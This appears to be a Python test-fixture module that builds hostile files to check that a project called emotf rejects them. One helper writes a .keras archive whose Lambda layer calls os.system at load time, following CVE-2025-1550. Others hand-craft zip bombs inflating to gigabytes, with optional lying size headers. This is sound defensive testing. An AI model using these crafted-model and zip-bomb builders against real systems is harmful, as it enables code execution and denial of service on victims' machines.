"""A crafted `.keras` archive that runs a shell command when Keras deserialises it.

The layout follows advisory GHSA-48g7-3x6r-xfhp (CVE-2025-1550): a `Lambda` layer whose
`function` is the module function `os.system`, called at load time on a string input. Keras 3.8
ran it even with `safe_mode=True` (checked: `keras.saving.load_model` on this file created the
marker under Keras 3.8.0); emotf must never run it.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path


def crafted_config(command: str) -> dict:
    """A functional model config whose one layer calls `os.system(command)` when built."""
    evil = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "evil",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "function",
            },
            "arguments": {},
        },
        "registered_name": None,
        "name": "evil",
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": command}}],
    }
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {
            "name": "crafted",
            "trainable": True,
            "layers": [evil],
            "input_layers": [],
            "output_layers": [["evil", 0, 0]],
        },
        "registered_name": "Functional",
        "build_config": {"input_shape": None},
    }


def craft_keras_file(path: Path, marker: Path, template: Path | None = None) -> Path:
    """Write a `.keras` at `path` whose config runs `touch marker`.

    With `template` (a genuine `.keras`), its weights and metadata are kept and only
    `config.json` is replaced, so the file looks like a real emotf model.
    """
    files = {}
    if template is not None:
        with zipfile.ZipFile(template) as archive:
            files = {name: archive.read(name) for name in archive.namelist()}
    else:
        files["metadata.json"] = json.dumps({"keras_version": "3.8.0", "date_saved": "x"}).encode()
    files["config.json"] = json.dumps(crafted_config(f"touch {marker}")).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return path


# === Zip bombs ===


def _deflated_zeros(megabytes: int) -> bytes:
    """A raw deflate stream of `megabytes` MiB of zeros, about 1 KB per MiB, built in
    milliseconds: one MiB compressed after a full flush (which resets the compressor, so every
    further MiB compresses to the same bytes) repeated."""
    import zlib

    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert block == compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return (
        first
        + block * (megabytes - 2)
        + compressor.compress(bytes(1 << 20))
        + compressor.flush(zlib.Z_FINISH)
    )


def write_zip(path: Path, members: dict[str, tuple]) -> Path:
    """A zip written byte by byte: {name: (stored data, compress method, declared uncompressed
    size, crc[, declared compressed size])}, so a test can declare any size (zipfile itself
    would write the true ones)."""
    import struct

    local, directory = b"", b""
    for name, (data, method, size, crc, *packed) in members.items():
        encoded = name.encode()
        packed = packed[0] if packed else len(data)
        header = struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, method, 0, 0, crc, packed, size, len(encoded), 0
        )
        directory += struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            crc,
            packed,
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            len(local),
        )
        directory += encoded
        local += header + encoded + data
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(local), 0
    )
    path.write_bytes(local + directory + end)
    return path


def craft_zip_bomb(
    path: Path, inflated_mib: int = 3000, declared: int | None = None, template: Path | None = None
) -> Path:
    """A `.keras` whose `config.json` inflates to `inflated_mib` MiB of zeros (the issue's
    2.9 MB file that inflates to 3 GB). `declared`: the uncompressed size its headers claim
    (default: the true size; smaller: a lying header). With `template` (a genuine `.keras`),
    its other members are kept, stored uncompressed."""
    import zipfile
    import zlib

    members = {}
    if template is not None:
        with zipfile.ZipFile(template) as archive:
            for name in archive.namelist():
                if name != "config.json":
                    data = archive.read(name)
                    members[name] = (data, 0, len(data), zlib.crc32(data))
    true_size = inflated_mib << 20
    members["config.json"] = (
        _deflated_zeros(inflated_mib),
        8,
        true_size if declared is None else declared,
        0,
    )
    return write_zip(path, members)
